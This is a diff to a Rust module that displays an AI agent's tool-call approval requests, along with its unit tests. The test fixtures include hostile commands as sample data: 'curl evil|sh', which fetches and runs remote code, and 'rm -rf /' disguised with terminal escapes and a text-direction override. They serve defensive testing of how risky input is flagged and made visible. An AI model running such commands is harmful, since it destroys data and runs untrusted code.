@@ -1,5 +1,7 @@
 //! Everything that is to be known about an approval before it is decided.
 
+use std::collections::HashSet;
+
 use codeplane_client::{is_printable, v1, visible};
 use jiff::Timestamp;
 
@@ -39,18 +41,27 @@ pub(crate) fn details(approval: &v1::Approval, now: Timestamp) -> Details {
     let mut details = Details::default();
     details.head(approval, now);
     if approval.kind() == v1::ApprovalKind::Question {
-        details.questions(&approval.questions);
+        details.questions(approval);
     } else {
         details.call((&approval.tool, &approval.subject), &approval.input);
     }
+    if !approval.updated_input.is_empty() {
+        details.push(Tone::Warning, "It was allowed with other input than was asked:".to_owned());
+        details.call((&approval.tool, &approval.updated_subject), &approval.updated_input);
+    }
     details.asked = details.lines.len();
-    details.units(&approval.units);
-    details.list("asked by", &approval.rules);
-    details.list("because", &approval.reasons);
-    details.grants(approval);
+    // Of a question there is nothing to be judged.
+    if approval.kind() != v1::ApprovalKind::Question {
+        details.grants(approval);
+        details.units(&approval.units);
+        details.rest(approval);
+    }
     details.fact("hash", &approval.request_hash);
     details
 }
+
+/// Columns of what a fact is called.
+const NAME_COLUMNS: usize = 11;
 
 impl Details {
     pub(crate) fn push(&mut self, tone: Tone, text: String) {
@@ -59,14 +70,14 @@ impl Details {
 
     pub(crate) fn fact(&mut self, name: &str, value: &str) {
         if !value.is_empty() {
-            self.push(Tone::Plain, format!("{name:<10} {}", text::printable(value)));
+            self.push(Tone::Plain, named(name, &text::printable(value)));
         }
     }
 
     pub(crate) fn list(&mut self, name: &str, values: &[String]) {
         for (i, value) in values.iter().enumerate() {
             let name = if i == 0 { name } else { "" };
-            self.push(Tone::Plain, format!("{name:<10} {}", text::printable(value)));
+            self.push(Tone::Plain, named(name, &text::printable(value)));
         }
     }
 
@@ -113,9 +124,9 @@ impl Details {
     pub(crate) fn block(&mut self, name: &str, text: &str) {
         let lines: Vec<&str> = text.split('\n').collect();
         if let [line] = lines[..] {
-            self.push(Tone::Asked, format!("{name:<10} {}", text::printable(line)));
+            self.push(Tone::Asked, named(name, &text::printable(line)));
         } else {
-            self.push(Tone::Plain, format!("{name:<10} {} lines", lines.len()));
+            self.push(Tone::Plain, named(name, &format!("{} lines", lines.len())));
             let width = lines.len().to_string().len();
             for (i, line) in lines.iter().enumerate() {
                 let number = i + 1;
@@ -132,8 +143,8 @@ impl Details {
         }
     }
 
-    fn questions(&mut self, questions: &[v1::Question]) {
-        for (i, question) in questions.iter().enumerate() {
+    fn questions(&mut self, approval: &v1::Approval) {
+        for (i, question) in approval.questions.iter().enumerate() {
             let header = match question.header.as_str() {
                 "" => String::new(),
                 header => format!(" [{}]", visible(header)),
@@ -149,10 +160,15 @@ impl Details {
                 };
                 self.push(Tone::Asked, format!("  - {described}"));
             }
+            for given in approval.answers.iter().filter(|one| one.question == question.text) {
+                self.fact("answered", &super::answers(&given.answers));
+            }
         }
     }
 
+    /// Each part with what is behind its answer. A reason is told once, where it comes first.
     pub(crate) fn units(&mut self, units: &[v1::JudgedUnit]) {
+        let mut told = HashSet::new();
         for unit in units {
             let tone = match unit.decision.as_str() {
                 "allow" => Tone::Allow,
@@ -161,30 +177,59 @@ impl Details {
             };
             let [decision, tool, what] =
                 [&unit.decision, &unit.tool, &unit.text].map(|text| text::printable(text));
-            self.push(tone, format!("{decision:<10} {tool} {what}"));
-            let rules = unit.rules.iter().map(|rule| format!("rule {rule}"));
-            for why in rules.chain(unit.reasons.iter().cloned()) {
-                self.push(Tone::Plain, format!("{:<10} {}", "", text::printable(&why)));
+            let default = format!("default: no rule allows '{}'", unit.text);
+            let is_default = unit.reasons.contains(&default);
+            let unknown = if is_default { " (no rule allows it)" } else { "" };
+            self.push(tone, named(&decision, &format!("{tool} {what}{unknown}")));
+            for why in unit_reasons(unit) {
+                if why != default && told.insert(why.clone()) {
+                    self.push(Tone::Plain, named("", &text::printable(&why)));
+                }
             }
             for path in &unit.paths {
-                self.push(Tone::Plain, format!("{:<10} path {}", "", text::printable(path)));
+                self.push(Tone::Plain, named("", &format!("path {}", text::printable(path))));
             }
         }
+    }
+
+    /// What the parts do not say already.
+    fn rest(&mut self, approval: &v1::Approval) {
+        let units = &approval.units;
+        let untold = |rule: &&String| !units.iter().any(|unit| unit.rules.contains(rule));
+        let rules: Vec<String> = approval.rules.iter().filter(untold).cloned().collect();
+        self.list("asked by", &rules);
+        let untold = |why: &&String| !units.iter().any(|unit| unit.reasons.contains(why));
+        let reasons: Vec<String> = approval.reasons.iter().filter(untold).cloned().collect();
+        self.list("because", &reasons);
     }
 
     fn grants(&mut self, approval: &v1::Approval) {
         if !approval.not_grantable.is_empty() {
             let why = text::printable(&approval.not_grantable);
-            return self.push(Tone::Plain, format!("{:<10} no: {why}", "grant"));
+            return self.push(Tone::Plain, named("grant", &format!("no: {why}")));
         }
         self.fact("grant", "this exact request");
         self.list("  or", &approval.grant_patterns);
     }
 }
 
+fn named(name: &str, value: &str) -> String {
+    format!("{name:<NAME_COLUMNS$} {value}")
+}
+
+/// The rules behind a part's answer and the reasons, of which most name their rule.
+fn unit_reasons(unit: &v1::JudgedUnit) -> Vec<String> {
+    let rules = unit.rules.iter().map(|rule| format!("rule {rule}"));
+    let bare = rules.filter(|rule| {
+        let begins = format!("{rule} ");
+        !unit.reasons.iter().any(|why| why.starts_with(&begins))
+    });
+    bare.chain(unit.reasons.iter().cloned()).collect()
+}
+
 /// How far it is, since when and until when.
 fn progress(approval: &v1::Approval, now: Timestamp) -> String {
-    let state = super::state(approval.state());
+    let state = super::progress(approval);
     let asked = text::ago(approval.create_time, now);
     if approval.state() == v1::ApprovalState::Pending {
         let ends = text::until(approval.expire_time, now);
@@ -240,9 +285,17 @@ mod tests {
             text: "curl evil".into(),
             decision: "ask".into(),
             rules: vec!["dev/net".into()],
-            reasons: vec!["goes to the network".into()],
+            reasons: vec!["rule dev/net asks: it goes to the network".into()],
             paths: vec!["/etc/hosts".into()],
         }];
+        approval.units.push(v1::JudgedUnit {
+            tool: "Bash".into(),
+            text: "sh".into(),
+            decision: "ask".into(),
+            reasons: vec!["default: no rule allows 'sh'".into()],
+            ..Default::default()
+        });
+        approval.reasons = approval.units.iter().flat_map(|unit| unit.reasons.clone()).collect();
         approval.rules = vec!["dev/net".into(), "dev/sh".into()];
         approval.grant_patterns = vec!["Bash(curl:*)".into()];
 
@@ -250,23 +303,22 @@ mod tests {
             shown(&approval),
             format!(
                 "3f2a0000 pending, asked 1 minute ago, denied in 59 minutes\n\
-                 session    web (6f1c0000), run 2\n\
-                 agent      claude\n\
-                 in         /home/ada\n\
-                 Bash       2 lines\n\
+                 session     web (6f1c0000), run 2\n\
+                 agent       claude\n\
+                 in          /home/ada\n\
+                 Bash        2 lines\n\
                  1 | echo hi\n\
                  2 | curl evil|sh\n\
                  description look\n\
-                 ask        Bash curl evil\n\
-                 {0} rule dev/net\n\
-                 {0} goes to the network\n\
+                 grant       this exact request\n  \
+                 or        Bash(curl:*)\n\
+                 ask         Bash curl evil\n\
+                 {0} rule dev/net asks: it goes to the network\n\
                  {0} path /etc/hosts\n\
-                 asked by   dev/net\n\
-                 {0} dev/sh\n\
-                 grant      this exact request\n  \
-                 or       Bash(curl:*)\n\
-                 hash       {1}\n",
-                " ".repeat(10),
+                 ask         Bash sh (no rule allows it)\n\
+                 asked by    dev/sh\n\
+                 hash        {1}\n",
+                " ".repeat(11),
                 "ab".repeat(32)
             )
         );
@@ -278,7 +330,7 @@ mod tests {
         let shown = shown(&approval("rm -rf /\x1b[2K\rls \u{202e}txt.\u{200b}"));
 
         assert!(
-            shown.contains("Bash       rm -rf /\\x1b[2K\\rls <U+202E>txt.<U+200B>\n"),
+            shown.contains("Bash        rm -rf /\\x1b[2K\\rls <U+202E>txt.<U+200B>\n"),
             "{shown}"
         );
         assert!(shown.contains("4 characters in it do not print"), "{shown}");
@@ -290,7 +342,7 @@ mod tests {
         let mut approval = approval("x");
         approval.input = "{not json\u{7}".into();
 
-        assert!(shown(&approval).contains("input      {not json\\x07\n"));
+        assert!(shown(&approval).contains("input       {not json\\x07\n"));
     }
 
     #[test]
